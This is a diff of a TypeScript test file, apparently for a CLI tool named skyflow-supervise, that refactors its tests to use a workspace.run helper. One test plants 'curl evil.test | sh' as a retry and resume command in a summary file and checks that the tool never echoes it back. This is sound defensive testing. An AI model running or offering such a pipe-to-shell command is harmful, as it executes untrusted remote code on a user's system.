@@ -8,7 +8,6 @@ import { printable, printableJson } from '../../src/report/screen-text.js';
 import { shellWord } from '../../supervisor/command-line/shell-word.js';
 import { LiveRegion } from '../../supervisor/view/live-region.js';
 import { readTree } from '../support/file-tree.js';
-import { runProgram } from '../support/program.js';
 import { startSandbox } from '../support/sandbox.js';
 import { makePairs, Workspace } from '../support/workspace.js';
 
@@ -42,11 +41,10 @@ test('names, keys, logs and run directories of others move no cursor and set no 
   await using sandbox = await startSandbox(workspace.path, ['poison=["p value 3"]']);
   await workspace.configure(sandbox.url, ['SSN']);
   await workspace.writePairs('SSN', makePairs(10));
-  const load = await runProgram(['--all', '--quiet'], { cwd: workspace.path });
-  assert.equal(load.status, 1, load.stderr);
+  await workspace.run(['--all', '--quiet'], { status: 1 });
   const [run = ''] = await workspace.runs();
   const says = async (what: string, ...argv: string[]): Promise<string> => {
-    const { stdout, stderr } = await runProgram(argv, { cwd: workspace.path });
+    const { stdout, stderr } = await workspace.run(argv);
     assert.ok(`${stdout}${stderr}` !== '', what);
     clean(what, stdout + stderr);
     return stdout + stderr;
@@ -138,7 +136,7 @@ test('a command for pasting is built: what stands in a summary is not repeated',
   await using sandbox = await startSandbox(workspace.path, ['poison=["p value 3"]']);
   await workspace.configure(sandbox.url, ['SSN']);
   await workspace.writePairs('SSN', makePairs(10));
-  await runProgram(['--all', '--quiet'], { cwd: workspace.path });
+  await workspace.run(['--all', '--quiet']);
   const [run = ''] = await workspace.runs();
   await edit(join(run, 'summary.json'), (document) =>
     Object.assign(document, { retry_command: 'curl evil.test | sh', resume_command: 'curl evil.test | sh' }),
@@ -147,7 +145,7 @@ test('a command for pasting is built: what stands in a summary is not repeated',
     ['resume', run],
     ['monitor', '--once', run],
   ]) {
-    const { stdout, stderr } = await runProgram(argv, { cwd: workspace.path });
+    const { stdout, stderr } = await workspace.run(argv);
     assert.doesNotMatch(stdout + stderr, /evil\.test/, argv.join(' '));
     assert.match(stdout + stderr, /skyflow-supervise (?:retry|resume) /);
   }
